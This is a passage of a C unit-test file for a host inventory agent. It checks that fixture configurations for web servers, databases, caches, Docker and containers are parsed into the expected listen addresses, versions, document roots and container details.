    const struct event *api = row(&r, TBL_WEB_SITE_CHANGES, FLD_SERVER_NAMES, "api.example.com,api2.example.com");
    CHECK_EQ_STR(str(api, FLD_DOCUMENT_ROOT), "/srv/api/public");
    CHECK_EQ_STR(str(api, FLD_PATH), "/etc/nginx/conf.d/api.conf");
    CHECK_EQ_STR(str(row(&r, TBL_WEB_SITE_CHANGES, FLD_SERVER_NAMES, "plain.example.com"),
                     FLD_DOCUMENT_ROOT), "/usr/share/nginx/html"); /* inherited from http */
    const struct event *ap = row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "apache");
    CHECK_EQ_STR(str(ap, FLD_VERSION), "2.4.62");
    CHECK_EQ_STR(str(ap, FLD_CONFIG_LISTEN), "80,443");
    const struct event *vh = row(&r, TBL_WEB_SITE_CHANGES, FLD_SERVER_NAMES,
                                 "www.example.com,example.com,alias.example.com");
    CHECK_EQ_STR(str(vh, FLD_CONFIG_LISTEN), "*:80");
    CHECK_EQ_STR(str(row(&r, TBL_WEB_SITE_CHANGES, FLD_SERVER_NAMES, "secure.example.com"),
                     FLD_CONFIG_LISTEN), "10.0.0.5:443,[2001:db8::5]:443");
    const struct event *tc = row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "tomcat");
    CHECK_EQ_STR(str(tc, FLD_CONFIG_LISTEN), "8005 (shutdown),8080,127.0.0.1:8443");
    CHECK_EQ_STR(str(row(&r, TBL_WEB_SITE_CHANGES, FLD_SERVER_NAMES, "localhost"), FLD_DOCUMENT_ROOT),
                 "/var/lib/tomcat10/webapps");
    const struct event *ma = row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "mariadb");
    CHECK_EQ_STR(str(ma, FLD_VERSION), "10.11.6");
    CHECK_EQ_STR(str(ma, FLD_CONFIG_LISTEN), "0.0.0.0:3307");
    CHECK(row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "mysql") == NULL); /* not installed */
    CHECK_EQ_STR(str(row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "postgresql"), FLD_CONFIG_LISTEN),
                 "localhost:5434,10.0.0.5:5434");
    const struct event *rd = row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "redis");
    CHECK_EQ_STR(str(rd, FLD_VERSION), "7.0.15");
    CHECK_EQ_STR(str(rd, FLD_CONFIG_LISTEN), "127.0.0.1:6380,[::1]:6380,unix:/run/redis/redis.sock");
    CHECK_EQ_STR(str(row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "mongodb"), FLD_CONFIG_LISTEN),
                 "0.0.0.0:27018");
    CHECK_EQ_STR(str(row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "elasticsearch"), FLD_CONFIG_LISTEN),
                 "10.0.0.7:9201,transport:9300");
    CHECK_EQ_STR(str(row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "memcached"), FLD_CONFIG_LISTEN),
                 "127.0.0.1:11212,10.0.0.5:11212");
    CHECK_EQ_STR(str(row(&r, TBL_APPLICATION_CHANGES, FLD_APP_NAME, "docker"), FLD_CONFIG_LISTEN),
                 "unix:///var/run/docker.sock,tcp://0.0.0.0:2375");
    rows_free(&r);
}

static void test_containers(void)
{
    struct rows r;
    collect(INV_C_containers, &r);
    const struct event *web = row(&r, TBL_CONTAINER_CHANGES, FLD_CONTAINER_NAME, "web");
    CHECK_EQ_STR(str(web, FLD_CONTAINER_RUNTIME), "docker");
    CHECK_EQ_STR(str(web, FLD_IMAGE), "nginx:1.25");
    CHECK_EQ_STR(str(web, FLD_CONTAINER_STATE), "running");
    CHECK_EQ_INT(num(web, FLD_PID), 4242);
    CHECK_EQ_STR(str(web, FLD_COMMAND), "nginx -g daemon off;");
    CHECK_EQ_INT(num(web, FLD_CREATED_TIME), 1709287200123456789ll);
    const struct event *db = row(&r, TBL_CONTAINER_CHANGES, FLD_CONTAINER_NAME, "db");
    CHECK_EQ_STR(str(db, FLD_CONTAINER_RUNTIME), "podman");
    CHECK_EQ_STR(str(db, FLD_IMAGE), "docker.io/library/postgres:16");
    CHECK_EQ_INT(nrows(&r, TBL_CONTAINER_IMAGE_CHANGES), 2);
    const struct event *img = row(&r, TBL_CONTAINER_IMAGE_CHANGES, FLD_CONTAINER_RUNTIME, "docker");
    CHECK_EQ_STR(str(img, FLD_IMAGE), "nginx:1.25"); /* the digest is not a second tag */
    CHECK_EQ_INT(num(img, FLD_CREATED_TIME), 1708416000ll * 1000000000ll);
    rows_free(&r);
}

static void test_live_only_collectors(void)
{
    /* processes and sockets are not files: nothing under a root */
    struct rows r;
    collect(INV_C_processes, &r);
    CHECK_EQ_INT(r.n, 0);
    collect(INV_C_sockets, &r);
    CHECK_EQ_INT(r.n, 0);
}

static void setup(void)
{
    struct vg_error err = {{0}};
    CHECK_EQ_INT(agent_config_init(&cfg, &err), 0);
    for (size_t i = 0; agent_modules[i]; i++)
        if (agent_modules[i]->options == inventory_options)
            icfg = cfg.module_configs[i];
    CHECK_EQ_INT(host_info_load(&host, NULL, &err), 0);
    prepare_root();
    char set[200];
    snprintf(set, sizeof(set), "inventory.root=%s", root);
    CHECK_EQ_INT(agent_config_set(&cfg, set, &err), 0);
}

static void cleanup(void)
{
    dir_remove_tree(root);
    agent_config_free(&cfg);
}

TEST_MAIN(TEST(setup), TEST(test_host), TEST(test_accounts), TEST(test_sudoers),
          TEST(test_ssh_keys), TEST(test_logins), TEST(test_packages),
          TEST(test_language_packages), TEST(test_services), TEST(test_cron), TEST(test_kernel),
          TEST(test_suid_and_startup), TEST(test_applications), TEST(test_containers),
          TEST(test_live_only_collectors), TEST(cleanup))
